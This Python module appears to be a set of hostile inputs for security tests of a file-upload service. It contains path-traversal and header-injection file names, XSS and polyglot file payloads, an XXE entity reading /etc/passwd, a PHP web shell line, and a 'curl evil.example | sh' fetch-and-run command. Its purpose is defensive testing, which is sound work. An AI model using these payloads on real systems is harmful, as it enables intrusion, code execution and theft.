"""What a hostile visitor sends: names, types, contents and headers, for all tests of the room.

Kept in one place, so that whatever is added is tried against the storage, against the view and
against all that comes later. The tests are in test_corpus.py; others import what they need.
"""

# Names that no file can have: they would leave the storage, end a line or are no UTF-8.
IMPOSSIBLE_NAMES = [
    "",
    ".",
    "..",
    "../secret",
    "a/../../secret",
    "a/..",
    "/etc/passwd",
    "//evil.example/a.txt",
    "\\\\host\\share\\a.txt",
    "..\\..\\boot.ini",
    "a\\..\\..\\b",
    "a\0.txt",
    "\0",
    "a\r\nSet-Cookie: admin=1",
    "a\nb",
    "a\x1b[31m",
    "a\x7f",
    "a\x85b",
    "\x01a",
    "\ud800.txt",
]

# Names that are odd, and that a file may have all the same: each must come back as it is, and
# mean nothing else anywhere.
ODD_NAMES = [
    "$where",
    "$ne",
    "a.$[].b",
    "{'$gt': ''}",
    "*",
    "a?b#c",
    "%2e%2e%2fsecret",
    "%00.txt",
    "%0d%0aX-Evil: 1",
    'a"; filename="evil.exe',
    "a\\b.txt",
    "a;b,c=d.txt",
    "'; alert(1); '",
    "<script>alert(1)</script>.txt",
    "<img src=x onerror=alert(1)>.png",
    "javascript:alert(1)",
    "data:text/html,x",
    "http:evil.example",
    "con.txt",
    "nul",
    "a.txt.",
    " a.txt ",
    "-rf",
    "~root",
    "...",
    ".htaccess",
    "a" * 900,
    "x/" * 60 + "deep.txt",
    "größe.txt",
    "gro\u0308\u00dfe.txt",  # the same for people, and another name
    "\u202egpj.exe",  # right to left: it looks like exe.jpg
    "a\u200b.txt",
    "a\u2028b.txt",
    "\ufeffa.txt",
    "\uff0e\uff0e\uff0fsecret",  # full-width dots and slash
    "\uff0e\uff0e\uff0f\uff0e\uff0e\uff0fetc\uff0fx.sh",
    "\u2100.txt",  # one character that is "a/c" in ASCII
    "C\uff1a\uff3cx.exe",
    "\U0001f4a9.png",
    "__proto__",
    "constructor",
]

_SCRIPT = b"<script>alert(document.domain)</script>"
_PNG = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\1\0\0\0\1\x08\6\0\0\0\x1f\x15\xc4\x89"

# What it is -> its content. Some are of two formats at once.
CONTENTS = {
    "an HTML page": b"<!doctype html><title>x</title>" + _SCRIPT,
    "HTML after white space": b"\r\n\t   <HTML>" + _SCRIPT,
    "HTML after a byte order mark": b"\xef\xbb\xbf<html>" + _SCRIPT,
    "HTML in UTF-16": "<html><script>alert(1)</script>".encode("utf-16"),
    "HTML in UTF-7": b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "HTML after a long comment": b"<!--" + b"x" * 5000 + b"-->" + _SCRIPT,
    "text with a tag far behind": b"plain text\n" * 500 + _SCRIPT,
    "a bare script tag": _SCRIPT,
    "an SVG image with a script": b'<svg xmlns="http://www.w3.org/2000/svg">' + _SCRIPT,
    "an SVG image with a handler": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "an SVG image behind an XML head": (
        b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        b'<svg xmlns="http://www.w3.org/2000/svg">&x;' + _SCRIPT
    ),
    "XHTML": b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">' + _SCRIPT,
    "XML with a style sheet": b'<?xml version="1.0"?><?xml-stylesheet href="x.xsl"?><a/>',
    "JavaScript": b"alert(document.domain)//",
    "a module": b"export default fetch('/admin/')",
    "a GIF that is JavaScript": b"GIF89a=1;alert(document.domain)//",
    "a GIF with a page in it": b"GIF89a\1\0\1\0\0\0\0;" + _SCRIPT,
    "a PNG with a page in it": _PNG + b"\0\0\0\0tEXt" + _SCRIPT,
    "a JPEG with a page in it": b"\xff\xd8\xff\xfe\0\x40" + _SCRIPT,
    "a bitmap that is JavaScript": b"BM=1;alert(document.domain)//",
    "a WebP with a page in it": b"RIFF\x24\0\0\0WEBPVP8 " + _SCRIPT,
    "an MP3 with a page in it": b"ID3\4\0\0\0\0\0\x40" + _SCRIPT,
    "a PDF with a script": b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>",
    "a PDF that is HTML": b"<html><!--\n%PDF-1.7\n-->" + _SCRIPT,
    "a ZIP with a page before it": _SCRIPT + b"PK\5\6" + bytes(18),
    "a JAR": b"PK\3\4\x14\0\x08\0META-INF/MANIFEST.MF",
    "a Flash film": b"CWS\x0a\0\0\0\0",
    "a Windows program": b"MZ\x90\0\3\0\0\0",
    "a shell script": b"#!/bin/sh\ncurl evil.example | sh\n",
    "PHP": b"<?php system($_GET['c']); ?>",
    "an HTML application": b"<hta:application>" + _SCRIPT,
    "a web archive": b"MIME-Version: 1.0\nContent-Type: multipart/related\n\n" + _SCRIPT,
    "a cache manifest": b"CACHE MANIFEST\nFALLBACK:\n/ /evil.html\n",
    "a style sheet": b"*{background:url(//evil.example/?)}",
    "JSON that is a page": b'{"a": "<script>alert(1)</script>"}',
    "WebVTT": b"WEBVTT\n\n00:00.000 --> 00:01.000\n" + _SCRIPT,
    "WebAssembly": b"\0asm\1\0\0\0",
    "nothing": b"",
    "one null": b"\0",
}

# Names under which they come; the extension must not talk anybody into showing them.
EXTENSIONS = [".png", ".txt", ".html", ""]

# What a browser runs nothing of, whatever is in it, when it has been told not to guess. This is
# written down here once more on purpose, and not taken from the view.
HARMLESS_TYPES = frozenset(
    {
        "text/plain",
        "image/avif",
        "image/bmp",
        "image/gif",
        "image/jpeg",
        "image/png",
        "image/webp",
        "image/x-icon",
        "image/vnd.microsoft.icon",
    }
)
HARMLESS_FAMILIES = ("audio/", "video/")

# Types as a browser, another program or somebody with access to the database may claim them.
CLAIMED_TYPES = [
    "text/html",
    "text/html; charset=utf-7",
    "image/svg+xml",
    "application/xhtml+xml",
    "text/xml",
    "application/javascript",
    "text/javascript",
    "application/pdf",
    "application/x-shockwave-flash",
    "multipart/x-mixed-replace",
    "message/rfc822",
    "image/png\r\nX-Evil: 1",
    "image/png\n",
    "image/png;x=\r\n\r\n<script>alert(1)</script>",
    "IMAGE/PNG",
    "image/png, text/html",
    "image/*",
    "*/*",
    "image",
    "/",
    "",
    " image/png",
    "image/png\0",
    "video/../../text/html",
    "audio/<script>",
    5,
    None,
    {"$ne": None},
    ["image/png"],
]

# Header -> values that are wrong, boundless, or mean harm.
HEADERS = {
    "Range": [
        "bytes=" + ",".join("0-" for _ in range(2000)),
        "bytes=" + ",".join(f"{n}-{n}" for n in range(1500)),
        "bytes=0-" + "9" * 5000,
        "bytes=-" + "9" * 5000,
        "bytes=-0",
        "bytes=--1",
        "bytes=9-1",
        "bytes=0x0-0xff",
        "bytes=\u0661-\u0662",
        "bytes=1e1-",
        "bytes= 0 - 1 , ",
        "bytes=",
        "bytes",
        "=0-1",
        "lines=0-1",
        "bytes=0-1;bytes=2-3",
        "bytes=0-1\tx",
    ],
    "If-Range": ["*", '"', 'W/"', "Thu, 99 Foo 2026 99:99:99 GMT", "x" * 5000],
    "If-None-Match": ['"', "W/", '"a' * 2000, ",,,,", "\u00e9", "x" * 5000],
    "If-Match": ['"', "W/", '"a' * 2000, "x" * 5000],
    "If-Modified-Since": ["Thu, 99 Foo 2026 99:99:99 GMT", "-1", "9" * 500],
    "If-Unmodified-Since": ["Thu, 99 Foo 2026 99:99:99 GMT", "-1", "9" * 500],
    "Accept-Encoding": ["gzip;q=0", "gzip;q=nonsense", "*;q=0", "gzip," * 2000, ";;;"],
}


def is_harmless(content_type: str) -> bool:
    """Whether a browser that must not guess runs nothing of a file of this type."""
    essence = content_type.partition(";")[0].strip()
    return essence in HARMLESS_TYPES or essence.startswith(HARMLESS_FAMILIES)
